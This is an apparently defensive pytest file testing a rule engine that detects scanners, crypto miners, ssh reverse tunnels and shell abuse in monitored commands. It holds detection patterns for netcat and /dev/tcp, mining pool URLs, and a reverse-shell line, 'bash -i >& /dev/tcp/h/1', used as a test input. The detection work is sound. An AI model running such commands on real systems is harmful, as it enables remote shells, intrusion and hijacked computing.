"""The rule language: fields, operators, composition, subjects and which events rules see."""

from __future__ import annotations

import textwrap

import pytest

from corral.events import ExecAction
from corral.monitor import Monitor, load_text
from corral.monitor.prefilter import Screen, required
from corral.monitor.rules import parse_flags, same_value, split_script, subjects_of

from .helpers import Feed, feed_all, rules_of, run_command


def monitor(rules_yaml: str, **kw: object) -> Monitor:
    pack = load_text(textwrap.dedent(rules_yaml), "test.yaml")
    return Monitor(packs=[pack], baseline=False, **kw)  # type: ignore[arg-type]


def one_rule(match: str) -> Monitor:
    return monitor(
        f"""
        rules:
          - id: r
            title: T
            severity: medium
            match: {match}
        """
    )


def fires(m: Monitor, *events: object) -> bool:
    return "r" in rules_of(feed_all(m, list(events)))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("match", "argv", "expected"),
    [
        ("{program: nmap}", ["/usr/bin/nmap", "-sS"], True),
        ("{program: [nmap, masscan]}", ["masscan"], True),
        ("{program: [nmap, masscan]}", ["ls"], False),
        ("{args: {contains: '-sS'}}", ["nmap", "-sS", "h"], True),
        ("{args: {startswith: '-s'}}", ["nmap", "-sS"], True),
        ("{args: {endswith: 'h'}}", ["nmap", "-sS", "h"], True),
        ("{program: {glob: 'xmr*'}}", ["xmrig"], True),
        ("{program: {glob: 'xmr*'}}", ["axmr"], False),
        ("{line: {regex: 'stratum\\+tcp://'}}", ["x", "stratum+tcp://p:1"], True),
        ("{argv: {in: [-R, -D]}}", ["ssh", "-R", "1:h:1", "h"], True),
        ("{'argv[-1]': h}", ["ssh", "h"], True),
        ("{'argv[1]': {regex: '^-'}}", ["ssh", "h"], False),
        ("{flags: {in: [-R]}}", ["ssh", "-fNR", "1:h:1", "h"], True),
        ("{flags: {in: [-R]}}", ["ssh", "-oRemoteCommand=x", "h"], False),
        ("{any: [{program: a}, {program: b}]}", ["b"], True),
        ("{all: [{program: a}, {args: x}]}", ["a", "x"], True),
        ("{all: [{program: a}, {args: x}]}", ["a", "y"], False),
        ("{not: {program: a}}", ["b"], True),
        ("{program: a, args: {not: {contains: safe}}}", ["a", "safe"], False),
        ("{program: a, args: {not: {contains: safe}}}", ["a", "risky"], True),
        ("{program: a, args: {regex: x, not: {contains: xy}}}", ["a", "xz"], True),
        ("{runs: ./x.sh}", ["sh", "./x.sh"], True),
        ("{runs: ./x.sh}", ["cat", "./x.sh"], False),
        ("{cwd: /workspace}", ["ls"], True),
    ],
)
def test_exec_field_conditions(match: str, argv: list[str], expected: bool) -> None:
    f = Feed()
    assert fires(one_rule(match), f.exec(*argv)) is expected


def test_numeric_and_network_operators() -> None:
    f = Feed()
    m = one_rule("{port: {'>=': 1024, '<': 2000}}")
    assert fires(m, f.net("h", 1500))
    assert not fires(m, f.net("h", 80))
    m = one_rule("{host: {cidr: [10.0.0.0/8, 'fd00::/8']}}")
    assert fires(m, f.net("10.1.2.3"))
    assert fires(m, f.net("fd00::1"))
    assert not fires(m, f.net("example.com"))
    m = one_rule("{host: {domain: example.com}}")
    assert fires(m, f.net("a.b.example.com"))
    assert fires(m, f.net("EXAMPLE.com"))
    assert not fires(m, f.net("badexample.com"))
    m = one_rule("{line: {word: ix.io}}")
    assert fires(m, f.exec("curl", "ix.io"))
    assert not fires(m, f.exec("curl", "matrix.io"))
    m = one_rule("{url: {exists: true}}")
    assert fires(m, f.net("h", 1, url="http://h/"))
    assert not fires(m, f.net("h", 1))


def test_data_outcome_and_tool_fields() -> None:
    f = Feed()
    m = one_rule("{type: resource.sample, data.cpu_pct: {gt: 90}}")
    assert fires(m, f.sample(cpu_pct=95))
    assert not fires(m, f.sample(cpu_pct=50))
    m = one_rule("{tool: pay, arg.amount: {'>': 100}}")
    assert fires(m, f.tool("pay", amount=500))
    assert not fires(m, f.tool("pay", amount=5))
    m = one_rule("{kind: exec, exit_code: {'!=': 0}}".replace("'!=': 0", "gt: 0"))
    done = f.exec("make", type_="action.completed")
    done = done.model_copy(update={"outcome": {"exit_code": 2}})
    assert fires(m, done)


def test_outcome_rules_see_completed_events_and_others_see_attempts_once() -> None:
    f = Feed()
    m = one_rule("{program: make}")
    req = f.exec("make")
    assert fires(m, req)
    # the completion of the same action is not a second attempt
    assert not fires(m, f.event("action.completed", action=req.action, outcome={"exit_code": 0}))
    # a completion whose request was never seen is the first sighting
    assert fires(m, f.exec("make", "all", type_="action.completed"))
    # denied attempts count too (another session: the same alert is not raised twice)
    assert fires(m, Feed("s2").exec("make", type_="action.denied"))
    # explicit types
    m = one_rule("{type: action.completed, program: make}")
    assert not fires(m, f.exec("make"))
    assert fires(m, f.exec("make", type_="action.completed"))


def test_code_and_shell_subjects() -> None:
    m = one_rule("{program: nmap}")
    # inside sudo, nohup, sh -c, eval, env, xargs, find -exec and a shell script
    for i, cmd in enumerate(
        [
            "sudo nohup nmap -sS h &",
            "sh -c 'echo x && nmap h'",
            "eval nmap h",
            "env A=1 nmap h",
            "echo h | xargs -n1 nmap",
            "find . -exec nmap {} ;",
            "timeout 5 nmap h",
            "bash -lc 'nmap h'",
        ]
    ):
        assert "r" in rules_of(run_command(m, cmd, session=f"s{i}")), cmd
    m = one_rule("{code: {regex: 'import socket'}}")
    assert "r" in rules_of(run_command(m, "python3 -c 'import socket'"))
    assert "r" in rules_of(run_command(m, "python -m x; perl -e 'import socket'", session="s2"))


def test_subjects_of_exec_event() -> None:
    f = Feed()
    subs = subjects_of(f.exec("sudo", "-u", "root", "nohup", "/tmp/x", "-a"))
    assert [s.program for s in subs] == ["sudo", "nohup", "x"]
    assert subs[2].derived and subs[2].via == "sudo"
    subs = subjects_of(f.code("ls | wc -l; python -c 'print(1)'", "shell"))
    assert [s.kind for s in subs] == ["code", "exec", "exec", "exec", "code"]
    assert subs[-1].language == "python"


def test_split_script_fast_path_agrees_with_the_splitter() -> None:
    assert split_script("git add -A && git commit -m x | cat; A=1 make") == [
        ["git", "add", "-A"],
        ["git", "commit", "-m", "x"],
        ["cat"],
        ["make"],
    ]
    assert split_script("echo 'a b' $(id)") == [["echo", "a b", "$(id)"], ["id"]]
    assert split_script("if true; then ls; fi") == [["true"], ["ls"]]


def test_parse_flags() -> None:
    assert parse_flags("ssh", ["-fNR", "1:h:1", "h"]) == ("-f", "-N", "-R")
    assert parse_flags("ssh", ["-oLogLevel=ERROR", "-L", "1:h:1"]) == ("-o", "-L")
    assert parse_flags("tar", ["-czf", "x.tgz", "--exclude=.git", "d"]) == (
        "-c",
        "-z",
        "-f",
        "--exclude",
    )
    assert parse_flags("x", ["-1", "--", "-v"]) == ()


def test_same_value() -> None:
    assert same_value("/tmp/x", "/tmp/x")
    assert same_value("/tmp/x", "x")
    assert same_value("./x", "x")
    assert same_value("x", "file=@x")
    assert same_value("x", ["curl", "-T", "x"])
    assert not same_value("/tmp/x", "/tmp/y")
    assert not same_value("a/x", "b/x")


def test_lists_and_override_and_disable() -> None:
    m = monitor(
        """
        lists:
          scanners: [nmap, masscan]
        rules:
          - id: r
            title: T
            severity: low
            match: {program: $scanners}
        """
    )
    f = Feed()
    assert fires(m, f.exec("masscan"))
    override = load_text(
        textwrap.dedent(
            """
            rules:
              - id: discovery-scanner
                title: Only masscan
                severity: low
                match: {program: masscan}
            """
        )
    )
    m = Monitor(packs=["default", override], baseline=False)
    assert m.rule("discovery-scanner").title == "Only masscan"  # type: ignore[union-attr]
    assert "discovery-scanner" not in rules_of(run_command(m, "nmap h"))
    disable = load_text("disable: [discovery-scanner]\n")
    m = Monitor(packs=["default", disable], baseline=False)
    assert m.rule("discovery-scanner") is None
    off = load_text(
        "rules:\n  - {id: discovery-scanner, title: x, severity: low, enabled: false, "
        "match: {program: x}}\n"
    )
    assert Monitor(packs=["default", off], baseline=False).rule("discovery-scanner") is None


def test_prefilter_literals() -> None:
    assert required(r"(?i)\bstratum[12]?\+(?:tcp|ssl)://") == {"stratum"}
    assert required(r"(?:nc\ |ncat|netcat)") == {"nc ", "ncat", "netcat"}
    assert required(r"(?=.*\bsocket\b)(?=.*\.connect\b)") in ({"socket"}, {".connect"})
    assert required(r"\d+") is None
    screen = Screen([(r"/dev/tcp/", "a"), (r"stratum\+tcp", "b"), (r"\d{3}", "c")])
    assert set(screen.find("bash -i >& /dev/tcp/h/1")) == {"a", "c"}
    assert screen.find("ls") == ()
    # patterns without literals come back for every text long enough for them
    assert set(screen.find("STRATUM+TCP://x")) == {"b", "c"}


def test_precheck_sees_the_action_before_it_runs() -> None:
    m = Monitor(baseline=False)
    alert = m.precheck(ExecAction(argv=["xmrig", "-o", "pool.example:3333"]), "s9")
    assert alert is not None
    assert alert.rule == "mining-known-miner"
    assert alert.response == "kill" and alert.blocking and alert.precheck
    assert m.precheck(ExecAction(argv=["ls"]), "s9") is None
